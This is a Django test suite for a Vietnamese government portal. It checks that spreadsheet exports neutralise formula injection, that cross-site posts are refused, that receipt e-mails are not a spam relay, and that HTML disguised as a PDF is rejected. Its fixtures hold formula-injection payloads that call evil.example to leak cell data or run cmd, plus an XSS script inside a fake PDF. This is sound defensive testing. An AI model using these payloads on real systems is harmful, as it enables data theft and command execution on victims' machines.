"""What the public types cannot attack the boards, the agencies or other sites (issue #16
item 5): formulas in the XLSX exports, cross-site form posts to the public APIs, the
receipt e-mail as a spam relay, and an HTML page passing for a PDF."""

import io

import pytest
from django.core import mail
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import translation
from openpyxl import load_workbook

from compliance.exports import report_xlsx
from compliance.selectors import report_build
from consultations.exports import comments_xlsx
from consultations.models import ConsultationComment
from mandate.periods import period_parse
from qa.models import Petition
from qa.notifications import RECEIPT_MAIL_BODY
from security.origins import MESSAGE_CROSS_SITE
from security.spreadsheets import spreadsheet_text
from surveys.exports import survey_results_xlsx
from surveys.rules import QuestionKind
from surveys.services import survey_response_submit
from tests.cms.factories import ConsultationPageFactory
from tests.consultations.factories import ConsultationCommentFactory
from tests.qa.factories import VALID_QUESTION
from tests.security.conftest import OWN_HOST
from tests.surveys.factories import SurveyPageFactory, questions_of
from uploads import sniffing
from uploads.validation import DOCUMENT_KINDS, MESSAGE_TYPE_NOT_ALLOWED, upload_errors

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(autouse=True)
def _clear_rate_limits():
    cache.clear()
    yield
    cache.clear()


def cell_texts(xlsx: bytes) -> list:
    book = load_workbook(io.BytesIO(xlsx))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells, typed: str) -> None:
    holding = [cell for cell in cells if isinstance(cell.value, str) and typed in cell.value]
    assert holding, f"{typed!r} is missing from the export"
    for cell in holding:
        assert cell.data_type == "s" and cell.quotePrefix  # never evaluated, even once edited
        assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value


@pytest.mark.parametrize("typed", FORMULAS)
def test_spreadsheet_text_neutralises_each_trigger(typed):
    assert spreadsheet_text(typed) == "'" + typed
    assert spreadsheet_text("Bình thường") == "Bình thường"
    assert spreadsheet_text(-3) == -3  # numbers stay numbers


def test_consultation_comment_export_carries_no_formula(portals):
    consultation = ConsultationPageFactory(parent=portals.section("sotuphap", "lay-y-kien"))
    for number, typed in enumerate(FORMULAS):
        ConsultationCommentFactory(consultation=consultation, content=typed, commenter_name=f"=cmd{number}",
                                   organisation="@evil")

    cells = cell_texts(comments_xlsx(consultation))

    for typed in (*FORMULAS, "=cmd0", "@evil"):
        assert_no_formula(cells, typed.lstrip("\t\r"))
    assert not any(cell.data_type == "f" for cell in cells)


def test_survey_export_carries_no_formula(portals):
    survey = SurveyPageFactory(parent=portals.section("bacninh", "khao-sat"))
    q = questions_of(survey)
    for number, typed in enumerate(FORMULAS):
        answers = {q[QuestionKind.SINGLE_CHOICE].pk: "Điện thoại", q[QuestionKind.MULTIPLE_CHOICE].pk: ["Hộ tịch"],
                   q[QuestionKind.SCALE].pk: 3, q[QuestionKind.FREE_TEXT].pk: typed}
        survey_response_submit(page=survey, answers=answers, session_key=f"s{number}", client_ip=f"10.0.0.{number}")

    cells = cell_texts(survey_results_xlsx(survey))

    for typed in FORMULAS:
        assert_no_formula(cells, typed.lstrip("\t\r"))
    assert not any(cell.data_type == "f" for cell in cells)


def test_compliance_report_export_carries_no_formula(portals):
    """The Điều 15 report's Q&A table names the units; a unit named like a formula stays text."""
    unit = portals.units["sotuphap"]
    unit.name = "=HYPERLINK(\"https://evil.example\")"
    unit.save(update_fields=["name"])

    cells = cell_texts(report_xlsx(report_build(unit=unit, period=period_parse("2026-H1"))))

    assert_no_formula(cells, 'HYPERLINK("https://evil.example")')
    # The Appendix's own "- …" line labels keep their wording, as text.
    label = next(cell for cell in cells if cell.value == "- Sơ đồ, cơ cấu tổ chức, chức năng nhiệm vụ, quyền hạn "
                 "(áp dụng với Công TTĐT các Sở, ngành)")
    assert label.data_type == "s" and label.quotePrefix


# --- Cross-site posts ---------------------------------------------------------------


def qa_form_post(client, **headers):
    data = {**VALID_QUESTION, "anonymous": "false"}
    return client.post("/api/v2/qa/questions/", data, HTTP_HOST=OWN_HOST, **headers)


def comment_post(client, consultation, content_type=None, **headers):
    data = {"commenter_name": "Nguyễn Văn A", "commenter_email": "a@example.vn",
            "content": "Đề nghị làm rõ phạm vi điều chỉnh của dự thảo này."}
    url = f"/api/v2/consultations/{consultation.pk}/comments/"
    if content_type:
        return client.post(url, data, content_type=content_type, HTTP_HOST=OWN_HOST, **headers)
    return client.post(url, data, HTTP_HOST=OWN_HOST, **headers)


def test_a_cross_site_form_post_of_a_question_is_refused(client, portals):
    before = Petition.objects.count()
    response = qa_form_post(client, HTTP_ORIGIN="https://evil.example")

    assert response.status_code == 403
    with translation.override("vi"):
        assert response.json()["detail"] == str(MESSAGE_CROSS_SITE)
    assert Petition.objects.count() == before


def test_a_cross_site_post_named_only_by_referer_is_refused(client, portals):
    response = qa_form_post(client, HTTP_REFERER="https://evil.example/trap.html")
    assert response.status_code == 403
    assert qa_form_post(client, HTTP_ORIGIN="null").status_code == 403  # sandboxed frame


def test_a_cross_site_comment_is_refused_in_every_body_format(client, portals):
    consultation = ConsultationPageFactory(parent=portals.section("sotuphap", "lay-y-kien"))
    evil = {"HTTP_ORIGIN": "https://evil.example"}

    assert comment_post(client, consultation, **evil).status_code == 403  # multipart
    form = "application/x-www-form-urlencoded"
    assert comment_post(client, consultation, content_type=form, **evil).status_code == 403
    assert comment_post(client, consultation, content_type="application/json", **evil).status_code == 403
    assert not ConsultationComment.objects.filter(consultation=consultation).exists()


def test_a_cross_site_survey_response_is_refused(client, portals):
    survey = SurveyPageFactory(parent=portals.section("bacninh", "khao-sat"))
    free_text = questions_of(survey)[QuestionKind.FREE_TEXT]
    response = client.post(f"/api/v2/surveys/{survey.pk}/responses/", {"answers": {str(free_text.pk): "x"}},
                           content_type="application/json", HTTP_HOST="bacninh.gov.vn",
                           HTTP_ORIGIN="https://evil.example")
    assert response.status_code == 403


def test_posts_from_the_portals_and_from_json_clients_still_work(client, portals):
    # The portal's own page, another portal's page (a unit's hostname), a client without Origin.
    assert qa_form_post(client, HTTP_ORIGIN=f"https://{OWN_HOST}").status_code == 201
    cache.clear()
    assert qa_form_post(client, HTTP_ORIGIN="https://bacninh.gov.vn").status_code == 201
    cache.clear()
    assert qa_form_post(client, HTTP_REFERER=f"https://{OWN_HOST}/hoi-dap/").status_code == 201
    cache.clear()
    response = client.post("/api/v2/qa/questions/", VALID_QUESTION, content_type="application/json",
                           HTTP_HOST=OWN_HOST)
    assert response.status_code == 201


@override_settings(CORS_ALLOWED_ORIGINS=["https://app.bacninh.example"])
def test_a_front_end_allowed_for_cors_may_post(client, portals):
    assert qa_form_post(client, HTTP_ORIGIN="https://app.bacninh.example").status_code == 201
    cache.clear()
    assert qa_form_post(client, HTTP_ORIGIN="https://other.example").status_code == 403


# --- Receipt e-mail -------------------------------------------------------------------


def test_the_receipt_mail_quotes_nothing_the_sender_typed(client, portals, django_capture_on_commit_callbacks):
    spam = {**VALID_QUESTION, "sender_email": "victim@example.org", "sender_name": "Mua thuốc giá rẻ tại spam.example",
            "subject": "KHUYẾN MÃI LỚN tại https://spam.example — nhấn vào đây"}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/api/v2/qa/questions/", spam, content_type="application/json", HTTP_HOST=OWN_HOST)
    assert response.status_code == 201
    code = response.json()["tracking_code"]

    receipt = next(m for m in mail.outbox if m.to == ["victim@example.org"])
    for typed in ("spam.example", "KHUYẾN MÃI", "Mua thuốc"):
        assert typed not in receipt.body and typed not in receipt.subject
    assert code in receipt.body and code in receipt.subject
    with translation.override("vi"):
        assert receipt.body == str(RECEIPT_MAIL_BODY) % {"code": code}


# --- File signatures ----------------------------------------------------------------

HTML_THEN_PDF = b"<!doctype html><html><body><script>alert(document.cookie)</script>" + b"%PDF-1.7\n%%EOF\n"
TEXT_THEN_PDF = b"Thong bao\n" + b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n"


@pytest.mark.parametrize("data", [HTML_THEN_PDF, TEXT_THEN_PDF], ids=["html-then-pdf", "text-then-pdf"])
def test_a_pdf_signature_after_other_content_is_not_a_pdf(data):
    assert sniffing.sniff_bytes(data) != sniffing.PDF
    errors = upload_errors(SimpleUploadedFile("quyet-dinh.pdf", data), allowed=DOCUMENT_KINDS, max_size=10**6)
    assert errors, "an upload starting with something else than %PDF- was accepted as a PDF"


def test_html_with_a_pdf_signature_is_refused_as_markup():
    errors = upload_errors(SimpleUploadedFile("trang.pdf", HTML_THEN_PDF), allowed=DOCUMENT_KINDS, max_size=10**6)
    with translation.override("vi"):
        assert errors and errors[0].startswith(str(MESSAGE_TYPE_NOT_ALLOWED).split("%(")[0])


def test_a_real_pdf_still_passes():
    data = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n"
    assert sniffing.sniff_bytes(data) == sniffing.PDF
    assert upload_errors(SimpleUploadedFile("quyet-dinh.pdf", data), allowed=DOCUMENT_KINDS, max_size=10**6) == []


def test_html_with_a_pdf_signature_is_refused_by_the_qa_api(client, portals):
    data = {**VALID_QUESTION, "anonymous": "false", "attachments": [SimpleUploadedFile("don.pdf", HTML_THEN_PDF)]}
    response = client.post("/api/v2/qa/questions/", data, HTTP_HOST=OWN_HOST)
    assert response.status_code == 400, response.content
